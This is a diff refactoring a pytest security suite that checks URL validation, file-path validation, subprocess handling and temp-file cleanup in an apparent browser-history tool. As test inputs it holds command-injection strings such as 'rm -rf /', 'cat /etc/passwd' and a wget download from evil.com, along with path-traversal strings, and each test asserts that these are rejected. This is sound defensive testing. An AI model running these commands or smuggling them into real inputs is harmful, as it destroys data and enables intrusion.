@@ -1,59 +1,57 @@
 import pytest
 import tempfile
 import os
-from unittest.mock import patch, MagicMock
+import stat
 from historyhounder.content_fetcher import validate_url, fetch_youtube_metadata, fetch_article_content
 from historyhounder.utils import validate_file_path
 from historyhounder.history_extractor import secure_temp_db_copy
 
+# Command-injection URLs shared by every validator test
+_MALICIOUS_URLS = (
+    "https://example.com; rm -rf /",
+    "https://example.com && cat /etc/passwd",
+    "https://example.com | wget http://evil.com/backdoor",
+)
+
 
 class TestURLValidation:
     """Test URL validation to prevent command injection."""
     
-    def test_valid_urls(self):
+    @pytest.mark.parametrize("url", [
+        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
+        "http://example.com",
+        "https://subdomain.example.com/path?param=value",
+        "https://example.com:8080/path"
+    ])
+    def test_valid_urls(self, url):
         """Test that valid URLs pass validation."""
-        valid_urls = [
-            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
-            "http://example.com",
-            "https://subdomain.example.com/path?param=value",
-            "https://example.com:8080/path"
-        ]
-        
-        for url in valid_urls:
-            assert validate_url(url) is True, f"URL should be valid: {url}"
+        assert validate_url(url) is True, f"URL should be valid: {url}"
     
-    def test_invalid_urls(self):
+    @pytest.mark.parametrize("url", [
+        None,
+        "",
+        "not-a-url",
+        "ftp://example.com",  # Unsupported scheme
+        "file:///etc/passwd",  # File scheme
+        "javascript:alert('xss')",  # JavaScript scheme
+    ])
+    def test_invalid_urls(self, url):
         """Test that invalid URLs fail validation."""
-        invalid_urls = [
-            None,
-            "",
-            "not-a-url",
-            "ftp://example.com",  # Unsupported scheme
-            "file:///etc/passwd",  # File scheme
-            "javascript:alert('xss')",  # JavaScript scheme
-        ]
-        
-        for url in invalid_urls:
-            assert validate_url(url) is False, f"URL should be invalid: {url}"
+        assert validate_url(url) is False, f"URL should be invalid: {url}"
     
-    def test_command_injection_attempts(self):
+    @pytest.mark.parametrize("url", _MALICIOUS_URLS + (
+        "https://example.com`whoami`",
+        "https://example.com$(id)",
+        "https://example.com{ls,}",
+        "https://example.com[$(id)]",
+        "https://example.com<malicious>",
+        "https://example.com\"malicious\"",
+        "https://example.com'malicious'",
+        "https://example.com\\malicious",
+    ))
+    def test_command_injection_attempts(self, url):
         """Test that URLs with shell metacharacters are rejected."""
-        malicious_urls = [
-            "https://example.com; rm -rf /",
-            "https://example.com && cat /etc/passwd",
-            "https://example.com | wget http://evil.com/backdoor",
-            "https://example.com`whoami`",
-            "https://example.com$(id)",
-            "https://example.com{ls,}",
-            "https://example.com[$(id)]",
-            "https://example.com<malicious>",
-            "https://example.com\"malicious\"",
-            "https://example.com'malicious'",
-            "https://example.com\\malicious",
-        ]
-        
-        for url in malicious_urls:
-            assert validate_url(url) is False, f"Malicious URL should be rejected: {url}"
+        assert validate_url(url) is False, f"Malicious URL should be rejected: {url}"
     
     def test_url_length_limits(self):
         """Test that extremely long URLs are handled properly."""
@@ -61,8 +59,7 @@ class TestURLValidation:
         long_url = "https://example.com/" + "a" * 10000
         
         # Should not crash and should return False for extremely long URLs
-        result = validate_url(long_url)
-        assert isinstance(result, bool)
+        assert validate_url(long_url) is False
 
 
 class TestFilePathValidation:
@@ -73,41 +70,37 @@ class TestFilePathValidation:
         with tempfile.NamedTemporaryFile() as tmp_file:
             assert validate_file_path(tmp_file.name) is True
     
-    def test_invalid_file_paths(self):
+    @pytest.mark.parametrize("path", [
+        None,
+        "",
+        "/etc/passwd",  # Absolute path
+        "../../../etc/passwd",  # Path traversal
+        "C:\\Windows\\System32\\config\\SAM",  # Windows path with colon
+        "/tmp/nonexistent_file.txt",  # Non-existent file
+        "/tmp",  # Directory, not file
+    ])
+    def test_invalid_file_paths(self, path):
         """Test that invalid file paths fail validation."""
-        invalid_paths = [
-            None,
-            "",
-            "/etc/passwd",  # Absolute path
-            "../../../etc/passwd",  # Path traversal
-            "C:\\Windows\\System32\\config\\SAM",  # Windows path with colon
-            "/tmp/nonexistent_file.txt",  # Non-existent file
-            "/tmp",  # Directory, not file
-        ]
-        
-        for path in invalid_paths:
-            assert validate_file_path(path) is False, f"Path should be invalid: {path}"
+        assert validate_file_path(path) is False, f"Path should be invalid: {path}"
     
-    def test_path_traversal_attempts(self):
+    @pytest.mark.parametrize("path", [
+        "../../../etc/passwd",
+        "..\\..\\..\\Windows\\System32\\config\\SAM",
+        "....//....//....//etc/passwd",
+        "..%2F..%2F..%2Fetc%2Fpasswd",  # URL encoded
+        "..%5C..%5C..%5CWindows%5CSystem32%5Cconfig%5CSAM",  # URL encoded Windows
+    ])
+    def test_path_traversal_attempts(self, path):
         """Test that path traversal attempts are rejected."""
-        traversal_paths = [
-            "../../../etc/passwd",
-            "..\\..\\..\\Windows\\System32\\config\\SAM",
-            "....//....//....//etc/passwd",
-            "..%2F..%2F..%2Fetc%2Fpasswd",  # URL encoded
-            "..%5C..%5C..%5CWindows%5CSystem32%5Cconfig%5CSAM",  # URL encoded Windows
-        ]
-        
-        for path in traversal_paths:
-            assert validate_file_path(path) is False, f"Path traversal should be rejected: {path}"
+        assert validate_file_path(path) is False, f"Path traversal should be rejected: {path}"
 
 
 class TestSubprocessSecurity:
     """Test subprocess security to prevent command injection."""
     
-    @patch('subprocess.run')
-    def test_youtube_metadata_safe_url(self, mock_run):
+    def test_youtube_metadata_safe_url(self, mocker):
         """Test that safe URLs are processed correctly."""
+        mock_run = mocker.patch('subprocess.run')
         mock_run.return_value.stdout = '{"title": "Test Video"}'
         mock_run.return_value.returncode = 0
         
@@ -117,23 +110,17 @@ class TestSubprocessSecurity:
         assert 'error' not in result
         mock_run.assert_called_once()
     
-    def test_youtube_metadata_malicious_url(self):
+    @pytest.mark.parametrize("url", _MALICIOUS_URLS)
+    def test_youtube_metadata_malicious_url(self, url):
         """Test that malicious URLs are rejected."""
-        malicious_urls = [
-            "https://example.com; rm -rf /",
-            "https://example.com && cat /etc/passwd",
-            "https://example.com | wget http://evil.com/backdoor",
-        ]
-        
-        for url in malicious_urls:
-            result = fetch_youtube_metadata(url)
-            assert result['type'] == 'video'
-            assert 'error' in result
-            assert 'Invalid or unsafe URL' in result['error']
+        result = fetch_youtube_metadata(url)
+        assert result['type'] == 'video'
+        assert 'error' in result
+        assert 'Invalid or unsafe URL' in result['error']
     
-    @patch('subprocess.run')
-    def test_subprocess_timeout(self, mock_run):
+    def test_subprocess_timeout(self, mocker):
         """Test that subprocess timeouts are handled correctly."""
+        mock_run = mocker.patch('subprocess.run')
         mock_run.side_effect = TimeoutError("Process timed out")
         
         result = fetch_youtube_metadata("https://www.youtube.com/watch?v=dQw4w9WgXcQ")
@@ -146,13 +133,11 @@ class TestSubprocessSecurity:
 class TestNetworkSecurity:
     """Test network security features."""
     
-    @patch('requests.get')
-    def test_article_content_user_agent(self, mock_get):
+    def test_article_content_user_agent(self, mocker):
         """Test that User-Agent header is set correctly."""
-        mock_response = MagicMock()
-        mock_response.text = "<html><title>Test</title></html>"
-        mock_response.raise_for_status.return_value = None
-        mock_get.return_value = mock_response
+        mock_get = mocker.patch('requests.get')
+        mock_get.return_value.text = "<html><title>Test</title></html>"
+        mock_get.return_value.raise_for_status.return_value = None
         
         fetch_article_content("https://example.com")
         
@@ -162,58 +147,51 @@ class TestNetworkSecurity:
         assert 'User-Agent' in call_args[1]['headers']
         assert 'HistoryHounder' in call_args[1]['headers']['User-Agent']
     
-    def test_article_content_malicious_url(self):
+    @pytest.mark.parametrize("url", _MALICIOUS_URLS + ("file:///etc/passwd",))
+    def test_article_content_malicious_url(self, url):
         """Test that malicious URLs are rejected for article content."""
-        malicious_urls = [
-            "https://example.com; rm -rf /",
-            "https://example.com && cat /etc/passwd",
-            "file:///etc/passwd",
-        ]
-        
-        for url in malicious_urls:
-            result = fetch_article_content(url)
-            assert 'error' in result
-            assert 'Invalid or unsafe URL' in result['error']
+        result = fetch_article_content(url)
+        assert 'error' in result
+        assert 'Invalid or unsafe URL' in result['error']
+
+
+@pytest.fixture(scope="module")
+def sample_db(tmp_path_factory):
+    """Source file for secure_temp_db_copy, written once per module."""
+    db_path = tmp_path_factory.mktemp("security") / "source.db"
+    db_path.write_bytes(b"test data")
+    return str(db_path)
 
 
 class TestTemporaryFileSecurity:
     """Test temporary file security."""
     
-    def test_secure_temp_db_copy_cleanup(self):
+    def test_secure_temp_db_copy_cleanup(self, sample_db):
         """Test that temporary files are properly cleaned up."""
-        with tempfile.NamedTemporaryFile() as tmp_file:
-            tmp_file.write(b"test data")
-            tmp_file.flush()
-            
-            with secure_temp_db_copy(tmp_file.name) as temp_path:
-                # Verify temporary file was created
-                assert os.path.exists(temp_path)
-                # Verify it's a file, not a directory
-                assert os.path.isfile(temp_path)
-                # Verify permissions are restrictive
-                stat = os.stat(temp_path)
-                assert stat.st_mode & 0o777 == 0o600
-            
-            # Verify temporary file was cleaned up
-            assert not os.path.exists(temp_path)
+        with secure_temp_db_copy(sample_db) as temp_path:
+            # One lstat (raises if missing) covers existence, file type and permissions
+            mode = os.lstat(temp_path).st_mode
+            # Verify it's a regular file, not a directory or symlink
+            assert stat.S_ISREG(mode)
+            # Verify permissions are restrictive
+            assert mode & 0o777 == 0o600
+        
+        # Verify temporary file was cleaned up
+        assert not os.path.exists(temp_path)
     
-    def test_secure_temp_db_copy_exception_handling(self):
+    def test_secure_temp_db_copy_exception_handling(self, sample_db):
         """Test that temporary files are cleaned up even if exceptions occur."""
-        with tempfile.NamedTemporaryFile() as tmp_file:
-            tmp_file.write(b"test data")
-            tmp_file.flush()
-            
-            temp_path = None
-            try:
-                with secure_temp_db_copy(tmp_file.name) as temp_path:
-                    assert os.path.exists(temp_path)
-                    raise Exception("Test exception")
-            except Exception:
-                pass
-            
-            # Verify temporary file was cleaned up even after exception
-            if temp_path:
-                assert not os.path.exists(temp_path)
+        temp_path = None
+        try:
+            with secure_temp_db_copy(sample_db) as temp_path:
+                assert os.path.exists(temp_path)
+                raise Exception("Test exception")
+        except Exception:
+            pass
+        
+        # Verify temporary file was cleaned up even after exception
+        if temp_path:
+            assert not os.path.exists(temp_path)
 
 
 class TestInputValidation:
@@ -266,7 +244,7 @@ class TestErrorHandling:
     def test_error_messages_no_sensitive_info(self):
         """Test that error messages don't contain sensitive information."""
         # Test URL validation error
-        result = fetch_youtube_metadata("https://example.com; rm -rf /")
+        result = fetch_youtube_metadata(_MALICIOUS_URLS[0])
         assert "Invalid or unsafe URL" in result['error']
         assert "rm -rf" not in result['error']  # Should not expose the malicious part
         